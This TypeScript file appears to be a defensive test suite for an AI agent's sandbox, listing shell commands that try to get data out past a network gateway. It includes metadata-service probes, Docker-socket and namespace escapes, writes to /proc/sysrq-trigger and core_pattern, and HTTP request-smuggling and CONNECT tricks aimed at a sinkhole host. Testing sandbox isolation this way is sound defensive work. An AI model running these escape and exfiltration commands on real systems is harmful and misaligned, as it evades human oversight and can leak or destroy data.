/** What a channel is attempted with, as variables of its shell. */
export type Targets = {
  /** IPv4 addresses of the host, IPv6 ones in brackets. */
  readonly HOSTS: string;
  readonly HOSTS6: string;
  /** One of HOSTS. */
  readonly HOST: string;
  /** The sinkhole's port on all of them. */
  readonly PORT: string;
  readonly ABSTRACT: string;
  /** Directory of another agent's gateway socket, as the host knows it. */
  readonly OTHER: string;
  /** A host and port that EGRESS_ALLOW names. */
  readonly ALLOWED: string;
};

export type Channel = {
  readonly name: string;
  /** Shell in the agent; ends with 0 only where something got through. */
  readonly attempt: string;
  /** How many attempts of it the gateway has to refuse, each of which must be in the audit log. */
  readonly audited: number;
};

const perl = (program: string): string => `perl -MSocket -MIO::Socket::INET -e '${program}'`;
const each = (list: string, command: string): string => `for a in ${list}; do ${command} && exit 0; done; exit 1`;
const answers = (command: string): string => `${command} | grep -q SINKHOLE`;
const sends = (target: string, port: string): string => perl(`$s = IO::Socket::INET->new(Proto => "udp", PeerAddr => shift, PeerPort => shift, Broadcast => 1) or exit 1; $s->send("canary") or exit 1`) + ` ${target} ${port}`;
/** Bytes as they are, with variables in the places of `%s`. */
const raw = (text: string, ...variables: string[]): string => answers(`{ printf '${text}' ${variables.map((name) => `"$${name}"`).join(' ')}; sleep 0.3; } | socat -t 0.3 - UNIX-CONNECT:/run/gateway/gateway.sock`);
const GATEWAY = 'http://127.0.0.1:8080';
const viaGateway = (url: string, options = ''): string => answers(`curl -s -m 5 -x ${GATEWAY} -p ${options} -d canary ${url}`);

/** Ways out that do not touch the gateway. */
const DIRECT: [name: string, attempt: string][] = [
  ['TCP to the host', each('$HOSTS', answers('curl -s -m 2 -d canary http://$a:$PORT/'))],
  ['TCP to the host’s loopback', each('127.0.0.1 127.0.0.2 0.0.0.0 localhost [::1]', answers('curl -s -m 2 -d canary http://$a:$PORT/'))],
  ['TCP over IPv6', each('$HOSTS6 [::ffff:$HOST] [fe80::1]', answers('curl -s -m 2 -d canary http://$a:$PORT/'))],
  ['TCP to the internet', each('1.1.1.1 8.8.8.8', 'curl -s -m 2 -o /dev/null https://$a/')],
  ['UDP to the host', each('$HOSTS 8.8.8.8', sends('$a', '$PORT'))],
  ['UDP broadcast and multicast', each('255.255.255.255 224.0.0.251 239.1.2.3', sends('$a', '$PORT'))],
  ['DNS over UDP', `getent hosts canary.sinkhole.example.com || { ${each('8.8.8.8 $HOSTS', sends('$a', '53'))}; }`],
  ['DNS over TCP', each('8.8.8.8 $HOSTS', `${perl('exit !IO::Socket::INET->new(PeerAddr => shift, PeerPort => 53, Timeout => 2)')} $a`)],
  ['ICMP', each('$HOSTS 8.8.8.8', `${perl('socket(S, PF_INET, 3, 1) or socket(S, PF_INET, 2, 1) or exit 1; exit !send(S, "\\10\\0\\367\\377\\0\\0\\0\\0", 0, sockaddr_in(0, inet_aton(shift)))')} $a`)],
  ['raw IP', perl('exit !(socket(S, PF_INET, 3, 255) and send(S, "canary", 0, sockaddr_in(0, inet_aton("$ENV{HOST}"))))')],
  ['packets below IP', perl('exit !socket(S, 17, 3, 0x0300)')],
  ['the metadata of a cloud', each('169.254.169.254 100.100.100.200 [fd00:ec2::254]', 'curl -s -m 2 -o /dev/null http://$a/latest/meta-data/')],
  ['sockets of the hypervisor', perl('exit !(socket(S, 40, 1, 0) and connect(S, pack("SSLLx4", 40, 0, $ENV{PORT}, 2)))')],
  ['a network namespace of its own, or another’s', 'unshare -rn true || unshare -n true || nsenter -t 1 -n true || ip link add d0 type dummy'],
  ['the host’s abstract unix sockets', perl('socket(S, PF_UNIX, 1, 0); exit !connect(S, pack("Sa*", 1, "\\0$ENV{ABSTRACT}"))')],
  ['Docker’s socket', each('/var/run/docker.sock /run/docker.sock /host/run/docker.sock', 'curl -s -m 2 --unix-socket $a http://docker/_ping')],
  ['another agent’s gateway socket', each('$OTHER/gateway.sock /run/gateway/../$(basename $(dirname $OTHER))/gateway/gateway.sock /proc/1/root$OTHER/gateway.sock', 'curl -s -m 2 -o /dev/null --unix-socket $a http://gateway/v1/models')],
  ['files where the host sees them', 'echo canary > /run/gateway/canary || ln -s /etc/passwd /run/gateway/canary || mv /run/gateway/gateway.sock /workspace/'],
  ['devices and kernel files', 'mknod /workspace/disk b 8 0 || cat /dev/kmsg || echo c > /proc/sysrq-trigger || echo canary > /proc/sys/kernel/core_pattern'],
];

/** Ways that lead through the gateway, with how many of its events each must leave. */
const THROUGH: [name: string, audited: number, attempt: string][] = [
  ['other paths of the model’s service', 4, ['-d canary $G/v1/files', '-d canary $G/v1/responses/../uploads', '-X PUT -d canary $G/v1/responses', '-d canary $G//v1/responses'].map((call) => `curl -sf -m 5 --path-as-is -o /dev/null ${call}`).join(' || ')],
  ['CONNECT to a name that is not listed', 2, `${viaGateway('http://canary.sinkhole.example.com:$PORT/')} || ${viaGateway('http://$HOST.example.com:$PORT/')}`],
  ['CONNECT to an address', 3, each('$HOST [::ffff:$HOST] 2130706433', viaGateway('http://$a:$PORT/'))],
  ['CONNECT to the metadata of a cloud', 1, viaGateway('http://169.254.169.254/')],
  ['CONNECT to a listed name that stands for a private address', 1, viaGateway('http://localhost:$PORT/')],
  ['CONNECT with the headers of another host', 1, raw('CONNECT %s:%s HTTP/1.1\\r\\nHost: %s\\r\\nX-Forwarded-Host: %s\\r\\n\\r\\ncanary', 'HOST', 'PORT', 'ALLOWED', 'ALLOWED')],
  ['CONNECT to a host within a host', 1, raw('CONNECT %s@%s:%s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', 'ALLOWED', 'HOST', 'PORT')],
  ['requests in absolute form', 2, `${answers('curl -s -m 5 -x $G -d canary http://$HOST:$PORT/')} || ${answers('curl -s -m 5 -x $G -H "Host: $ALLOWED" http://$HOST:$PORT/v1/models')}`],
  ['a request within a request', 1, raw('POST /v1/responses HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://%s:%s/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', 'HOST', 'PORT')],
  ['a request behind a request', 2, raw('GET /v1/files HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET http://%s:%s/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', 'HOST', 'PORT')],
  ['an upgrade to WebSocket or HTTP/2', 2, `${answers('curl -s -m 5 -H "Connection: Upgrade" -H "Upgrade: websocket" -H "Sec-WebSocket-Key: Y2FuYXJ5" -H "Sec-WebSocket-Version: 13" -H "Host: $HOST:$PORT" $G/v1/responses')} || ${raw('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')}`],
  ['a model request with the headers of another host', 0, answers('curl -s -m 5 -H "Host: $HOST:$PORT" -H "X-Forwarded-Host: $HOST:$PORT" -H "Forwarded: host=$HOST:$PORT" -H "Content-Type: application/json" -d "{}" $G/v1/responses')],
  ['git to a host that is not listed', 1, answers('curl -s -m 5 "$G/git/$HOST:$PORT/canary/info/refs?service=git-upload-pack"')],
  ['git push to a listed host', 1, answers('curl -s -m 5 -d canary $G/git/127.0.0.1:$PORT/canary/git-receive-pack')],
  ['anything but git at a listed host', 3, ['canary', '../canary/git-upload-pack', '%2e%2e/canary/git-upload-pack'].map((path) => answers(`curl -s -m 5 --path-as-is -d canary $G/git/127.0.0.1:$PORT/${path}`)).join(' || ')],
];

export const CHANNELS: readonly Channel[] = [
  ...DIRECT.map(([name, attempt]) => ({ name, attempt, audited: 0 })),
  ...THROUGH.map(([name, audited, attempt]) => ({ name, attempt: `G=${GATEWAY}; ${attempt}`, audited })),
];
